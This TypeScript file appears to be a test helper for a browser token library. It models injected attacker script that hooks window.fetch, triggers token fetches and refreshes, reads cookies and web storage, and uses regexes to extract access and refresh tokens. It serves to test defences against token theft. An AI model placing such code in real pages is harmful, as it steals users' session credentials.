import type { TokenManager } from 'tokenward/browser'
import type { Found } from './places.ts'

/**
 * What script does that an attacker got into a page, by a package or by a hole: it can do whatever the page's own script can. So it listens in
 * at `fetch`, has the page call its API and refresh its tokens, and reads everything that the page has stored.
 */
export async function thief(tokens: TokenManager, api: string): Promise<Found> {
  const { texts, stop } = listenIn()
  try {
    await tokens.fetch(api).catch(() => {})
    await tokens.getAccessToken().then(
      ({ value }) => texts.push(`Bearer ${value}`),
      () => {},
    )
    await tokens.refresh().catch(() => {})
  } finally {
    stop()
  }
  texts.push(document.cookie, JSON.stringify({ ...localStorage, ...sessionStorage }))
  return { ...last('accessToken', /Bearer ([\w.~+/-]{20,}=*)/g, texts), ...last('refreshToken', REFRESH_TOKEN, texts) }
}

/** In a form that is sent, and in an answer. */
const REFRESH_TOKEN = /refresh_token(?:=|": ?")([\w.~+/-]{20,})/g

/** The latest of them that was seen. */
function last(name: keyof Found, form: RegExp, texts: readonly string[]): Found {
  const [, value] = [...texts.join('\n').matchAll(form)].at(-1) ?? []
  return value === undefined ? {} : { [name]: value }
}

/** Everything that is sent and answered from now on. */
function listenIn() {
  const texts: string[] = []
  const before = window.fetch
  window.fetch = async (input, init) => {
    const request = new Request(input, init)
    texts.push(JSON.stringify([...request.headers]), [...request.headers.values()].join('\n'))
    texts.push(await request.clone().text())
    const response = await before(request)
    texts.push(JSON.stringify([...response.headers]), await response.clone().text())
    return response
  }
  return {
    texts,
    stop() {
      window.fetch = before
    },
  }
}
